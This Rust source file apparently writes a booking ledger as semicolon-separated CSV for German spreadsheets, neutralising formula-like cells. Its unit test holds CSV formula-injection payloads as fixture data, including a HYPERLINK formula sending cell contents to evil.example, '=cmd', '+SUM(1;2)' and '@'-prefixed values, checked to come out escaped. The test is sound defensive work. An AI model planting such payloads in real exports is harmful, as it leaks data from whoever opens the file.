//! The booking list as CSV the way German spreadsheets and budget systems read it: `;` between
//! fields, quoting per RFC 4180 (the `csv` crate), CRLF line ends, a decimal comma unless asked for
//! a point, and optionally a UTF-8 byte order mark so Excel recognises the encoding.

use super::booking::{amount_text, Booking};
use crate::finance::spreadsheet::spreadsheet_safe;

pub const COLUMNS: [&str; 21] = [
    "journalId",
    "bookingType",
    "bookingDate",
    "bookedAt",
    "transactionId",
    "requestId",
    "originatorId",
    "transactionReference",
    "purpose",
    "Haushaltsstelle",
    "Objektnummer",
    "bookingData",
    "amount",
    "currency",
    "paymentMethod",
    "paymentMethodDetail",
    "provider",
    "paidAt",
    "refundId",
    "reverses",
    "paidAfterTimeout",
];

const BOM: &[u8] = b"\xEF\xBB\xBF";

pub use crate::model::DecimalSeparator;

pub(super) struct CsvEncoder {
    decimal: DecimalSeparator,
    bom: bool,
}

impl CsvEncoder {
    pub(super) fn new(decimal: DecimalSeparator, bom: bool) -> Self {
        CsvEncoder { decimal, bom }
    }

    pub(super) fn header(&mut self) -> Result<Vec<u8>, csv::Error> {
        let mut out = if self.bom { BOM.to_vec() } else { Vec::new() };
        let mut writer = writer(&mut out);
        writer.write_record(COLUMNS)?;
        writer.flush()?;
        drop(writer);
        Ok(out)
    }

    pub(super) fn rows(&mut self, bookings: &[Booking]) -> Result<Vec<u8>, csv::Error> {
        let mut out = Vec::new();
        let mut writer = writer(&mut out);
        for booking in bookings {
            writer.write_record(self.record(booking))?;
        }
        writer.flush()?;
        drop(writer);
        Ok(out)
    }

    fn record(&self, b: &Booking) -> [String; 21] {
        // Everything a client, provider or registry file chose is text from outside (SECURITY.md #29).
        let text = |value: &Option<String>| spreadsheet_safe(value.as_deref().unwrap_or_default());
        let amount = amount_text(b.amount);
        let amount = match self.decimal {
            DecimalSeparator::Comma => amount.replace('.', ","),
            DecimalSeparator::Point => amount,
        };
        let booking_data =
            b.booking_data.iter().map(|(key, value)| format!("{key}={value}")).collect::<Vec<_>>().join(", ");
        [
            b.journal_id.to_string(),
            b.booking_type.as_str().to_owned(),
            b.booked_at.date_naive().to_string(),
            b.booked_at.to_rfc3339(),
            b.transaction_id.clone(),
            spreadsheet_safe(&b.request_id),
            spreadsheet_safe(&b.originator_id),
            text(&b.transaction_reference),
            text(&b.purpose),
            text(&b.haushaltsstelle),
            text(&b.objektnummer),
            spreadsheet_safe(&booking_data),
            amount,
            "EUR".to_owned(),
            text(&b.payment_method),
            text(&b.payment_method_detail),
            b.provider_id.clone(),
            b.paid_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
            text(&b.refund_id),
            b.reverses.map(|id| id.to_string()).unwrap_or_default(),
            b.paid_after_timeout.to_string(),
        ]
    }
}

fn writer(out: &mut Vec<u8>) -> csv::Writer<&mut Vec<u8>> {
    csv::WriterBuilder::new().delimiter(b';').terminator(csv::Terminator::CRLF).from_writer(out)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use rust_decimal::Decimal;

    use super::*;
    use crate::finance::export::booking::BookingType;

    /// A booking whose every text from outside starts like a spreadsheet formula (SECURITY.md #29).
    fn hostile() -> Booking {
        let at = chrono::TimeZone::with_ymd_and_hms(&chrono_tz::Europe::Berlin, 2026, 11, 30, 12, 0, 0).unwrap();
        Booking {
            journal_id: 7,
            booking_type: BookingType::Payment,
            booked_at: at,
            amount: Decimal::new(-1250, 2),
            transaction_id: "-xYz_43charsOfPforteIdLikeText0123456789abc".to_owned(),
            request_id: "+SUM(1;2)".to_owned(),
            originator_id: "@demo".to_owned(),
            transaction_reference: Some("=1+1".to_owned()),
            purpose: Some("-2+3".to_owned()),
            haushaltsstelle: Some("=HYPERLINK(\"https://evil.example/?d=\"&A2;\"1.0100\")".to_owned()),
            objektnummer: Some("\t=cmd".to_owned()),
            booking_data: BTreeMap::from([("=evil".to_owned(), "1".to_owned())]),
            payment_method: Some("@creditcard".to_owned()),
            payment_method_detail: Some("+49 1234".to_owned()),
            provider_id: "sim-pay".to_owned(),
            paid_at: Some(at),
            refund_id: None,
            reverses: None,
            paid_after_timeout: false,
        }
    }

    #[test]
    fn no_cell_from_outside_starts_like_a_formula() {
        let bytes = CsvEncoder::new(DecimalSeparator::Comma, false).rows(&[hostile()]).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).delimiter(b';').from_reader(&bytes[..]);
        let record = reader.records().next().unwrap().unwrap();
        let cell = |name: &str| record[COLUMNS.iter().position(|c| *c == name).unwrap()].to_owned();
        for name in [
            "requestId",
            "originatorId",
            "transactionReference",
            "purpose",
            "Haushaltsstelle",
            "Objektnummer",
            "bookingData",
            "paymentMethod",
            "paymentMethodDetail",
        ] {
            let value = cell(name);
            assert!(value.starts_with('\''), "{name} is written as text: {value}");
        }
        assert_eq!(cell("Haushaltsstelle"), "'=HYPERLINK(\"https://evil.example/?d=\"&A2;\"1.0100\")");
        // pforte's own values stay as they are: an id of letters, digits, '-' and '_', a negative amount.
        assert_eq!(cell("transactionId"), "-xYz_43charsOfPforteIdLikeText0123456789abc");
        assert_eq!(cell("amount"), "-12,50");
    }
}
